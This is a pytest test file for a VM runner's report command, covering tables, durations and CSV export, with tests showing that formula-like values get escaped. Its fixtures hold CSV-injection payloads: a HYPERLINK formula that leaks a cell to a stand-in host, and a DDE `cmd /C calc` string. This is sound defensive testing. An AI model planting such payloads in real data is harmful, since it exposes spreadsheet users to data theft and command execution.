"""`vmrunner report`: for people, for spreadsheets, and for programs."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from vmrunner.cli.main import main
from vmrunner.cli.report_cmd import cell
from vmrunner.manager.history import History
from vmrunner.manager.record import Record

HOSTILE = '=HYPERLINK("http://192.0.2.1/"&A1,"x")/r'
Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    now = time.time()
    with closing(History(tmp_path / "history.sqlite", print)) as history:
        for number, (repository, age) in enumerate(
            [("acme/web", 60), ("acme/web", 8 * 86400), (HOSTILE, 60), ("[red]a;b\n=1/x", 60)]
        ):
            history._write(
                Record(
                    f"vmr-m-{number}",
                    "p",
                    job="build",
                    repository=repository,
                    verdict="success",
                    queued=now - age - 40,
                    created=now - age - 35,
                    job_started=now - age - 30,
                    destroyed=now - age,
                    ending="done",
                    vcpus=2,
                    memory_mib=1024,
                    memory_peak_mib=900,
                    guest_peak_mib=1000 * (repository == "acme/web"),
                    cpu_seconds=32.0,
                    waited_seconds=9.0 * (repository == HOSTILE),
                )
            )
    (tmp_path / "c.toml").write_text(
        f'manager = "m"\nstate_dir = "{tmp_path}"\n[forge]\nkind = "gitea"\n'
        'url = "http://192.0.2.7"\n[pools.p]\nlabels = ["a"]\nimage = "web"\n'
    )

    def call(*arguments: str) -> tuple[int, str, str]:
        monkeypatch.setattr(
            "sys.argv", ["vmrunner", "report", *arguments, "-c", str(tmp_path / "c.toml")]
        )
        with pytest.raises(SystemExit) as ended:
            main()
        out, err = capsys.readouterr()
        return int(ended.value.code or 0), out, err

    return call


def test_a_table_has_a_line_for_each(run: Run) -> None:
    code, printed, _ = run()
    web = next(line for line in printed.splitlines() if line.startswith("acme/web"))
    assert code == 0
    jobs = ["2", "2", "0", "0", "20s", "10s", "0s", "1m10s"]
    assert web.split() == ["acme/web", *jobs, "1m04s", "900", "MiB", "-", "-", "-", "2", "0"]
    # Others' words are no markup, and no line of their own.
    table, hints = printed.splitlines()[:4], printed.splitlines()[4:]
    assert len(hints) == 2
    assert hints[0].startswith("acme/web: 2 of 2 machines had nearly all of their memory in use")
    assert "the processors of 1 of 1 machines waited long" in hints[1]
    assert any("[red]a;b =1/x" in line for line in table)


def test_since_leaves_out_what_ended_before(run: Run) -> None:
    _, printed, _ = run("--since", "7d", "--by", "pool")
    assert printed.splitlines()[1].split()[:2] == ["p", "3"]


def test_csv_has_one_row_each_that_no_spreadsheet_runs(run: Run) -> None:
    code, printed, _ = run("--csv")
    rows = list(csv.reader(io.StringIO(printed)))
    assert code == 0
    assert rows[0][:3] == ["repository", "machines", "jobs"]
    assert {row[0] for row in rows[1:]} == {"acme/web", f"'{HOSTILE}", "[red]a;b =1/x"}
    assert all(len(row) == len(rows[0]) for row in rows)
    assert all(float(value) >= 0 for row in rows[1:] for value in row[1:])
    assert all(line.startswith('"') for line in printed.splitlines())


@pytest.mark.parametrize(
    "name",
    [*"=+-@", "\t=1", "\r=1", " =1", "=cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "＝1", "\u200b=1"],  # noqa: RUF001
)
def test_what_looks_like_a_formula_is_text(name: str) -> None:
    assert str(cell(name)).startswith("'")


@pytest.mark.parametrize("name", ["acme/web", "a=b", "2-3", "", 7, 0.5])
def test_the_rest_stays_as_it_is(name: str | float) -> None:
    assert cell(name) == name


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("--since", "7"), 'a duration is written like "90s"'),
        (("--since", "-1d"), 'a duration is written like "90s"'),
        (("--since", "99999999999d"), "a duration is"),
        (("--csv", "--json"), "either --csv or --json"),
        (("--by", "machine"), "machine"),
    ],
)
def test_what_can_not_be_meant_is_one_sentence(
    run: Run, arguments: tuple[str, ...], said: str
) -> None:
    code, _, told = run(*arguments)
    assert (code, said in told, "Traceback" in told) == (2, True, False), told


def test_more_than_the_history_keeps_is_said(run: Run) -> None:
    code, _, told = run("--since", "400d")
    assert (code, "the history goes back 90 days" in told) == (0, True)
